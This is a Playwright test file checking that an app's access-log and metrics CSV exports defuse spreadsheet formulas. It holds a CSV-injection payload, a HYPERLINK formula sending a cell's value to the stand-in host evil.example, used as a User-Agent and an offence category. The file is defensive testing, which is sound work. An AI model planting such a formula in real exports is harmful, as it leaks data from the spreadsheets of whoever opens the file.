import { randomUUID } from 'node:crypto';
import type { APIRequestContext } from '@playwright/test';
import { readCsv } from '../../lib/testing/read-csv';
import { demoUser, expect, test } from '../fixtures';
import { apiContext, Db, signIn, type StorageState } from './harness';

// Issue 9, attack suite part 5: CSV exports escape formula cells. Text a caller chose travels
// into two exports — a User-Agent into the access log's, a watchlist entry's offence category
// (sent by a service) into the metrics' — and must come out as text a spreadsheet shows, not a
// formula it runs: a leading quote, the rest intact, and the file still well-formed RFC 4180.

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const DEFUSED = `'${FORMULA}`;
const FORMULA_START = /^[=+\-@\t\r]/;
const SOURCE = 'ZZ-FORMULA';

let db: Db;
let analystState: StorageState;
let privacyState: StorageState;
const contexts: APIRequestContext[] = [];

test.beforeAll(async ({ browser }) => {
  test.setTimeout(90_000);
  db = await Db.connect();
  analystState = await signIn(browser, 'analyst');
  privacyState = await signIn(browser, 'privacy');
});

test.afterAll(async () => {
  await Promise.all(contexts.map((context) => context.dispose()));
  // Other suites screen against every active list: this one only served the test.
  await db?.query(`UPDATE "WatchlistSource" SET active = false WHERE code = $1`, [SOURCE]);
  await db?.close();
});

async function as(playwright: Parameters<typeof apiContext>[0], state?: StorageState, headers: Record<string, string> = {}) {
  const context = await apiContext(playwright, state, headers);
  contexts.push(context);
  return context;
}

/** The export read back strictly (a malformed file throws), as records keyed by the header row. */
function recordsOf(csv: string): Record<string, string>[] {
  const [header, ...rows] = readCsv(csv);
  return rows.map((row) => Object.fromEntries((header ?? []).map((name, index) => [name, row[index] ?? ''])));
}

test('a User-Agent that is a formula comes out of the access-log export as text', async ({ playwright }) => {
  const since = new Date(Date.now() - 60_000).toISOString().slice(0, 19) + 'Z';
  const analyst = await as(playwright, analystState, { 'User-Agent': FORMULA });
  const read = await analyst.get('/api/v1/hits');
  expect(read.status()).toBe(200);

  const privacy = await as(playwright, privacyState);
  const exported = await privacy.get(`/api/v1/access-log/export?${new URLSearchParams({ format: 'csv', actor: demoUser('analyst').email, from: since })}`);
  expect(exported.status()).toBe(200);
  const csv = await exported.text();
  // The consultation the formula came with is in the file, its User-Agent cell defused.
  const rows = recordsOf(csv).filter((row) => row.userAgent === DEFUSED);
  expect(rows.length, 'the formula User-Agent appears, defused').toBeGreaterThan(0);
  expect(csv).toContain(`"${DEFUSED.replaceAll('"', '""')}"`);
  for (const row of recordsOf(csv)) for (const [column, cell] of Object.entries(row)) expect(FORMULA_START.test(cell), `${column}: ${cell}`).toBe(false);
});

test('an offence category that is a formula comes out of the metrics export as text', async ({ playwright }) => {
  // A service lists a person under a formula, and another reports a hit against that entry.
  await db.query(`INSERT INTO "WatchlistSource" (id, code, name, "defaultLegalBasis", active) VALUES ($1, $2, 'Formula test list', 'Export formula test', true) ON CONFLICT (code) DO UPDATE SET active = true`, [randomUUID(), SOURCE]);
  const externalId = `formula-${randomUUID().slice(0, 8)}`;
  const writer = await as(playwright, undefined, { Authorization: `Bearer ${(await db.createToken(['watchlists:write'], 'formula writer')).secret}` });
  const listed = await writer.post(`/api/v1/watchlists/${SOURCE}/entries`, { data: { entries: [{ externalId, primaryName: 'Qzxformula Testperson', offenceCategory: FORMULA }] } });
  expect(listed.status(), await listed.text()).toBe(200);
  const engine = await as(playwright, undefined, { Authorization: `Bearer ${(await db.createToken(['hits:write'], 'formula engine')).secret}` });
  const today = new Date().toISOString().slice(0, 10);
  const traveller = { familyName: 'TESTPERSON', givenNames: 'QZXFORMULA', flightNumber: 'LH400', flightDate: today, departureAirport: 'FRA', arrivalAirport: 'JFK' };
  const reported = await engine.post('/api/v1/hits', { data: { hits: [{ traveller, entry: { source: SOURCE, externalId }, score: 0.9 }] } });
  expect(reported.status(), await reported.text()).toBe(201);

  const privacy = await as(playwright, privacyState);
  const exported = await privacy.get(`/api/v1/metrics/export?${new URLSearchParams({ chart: 'false-positives-by-category', from: today, to: today, granularity: 'day' })}`);
  expect(exported.status(), await exported.text()).toBe(200);
  const records = recordsOf(await exported.text());
  expect(records.map((row) => row.offenceCategory)).toContain(DEFUSED);
  for (const row of records) for (const [column, cell] of Object.entries(row)) expect(FORMULA_START.test(cell), `${column}: ${cell}`).toBe(false);
});
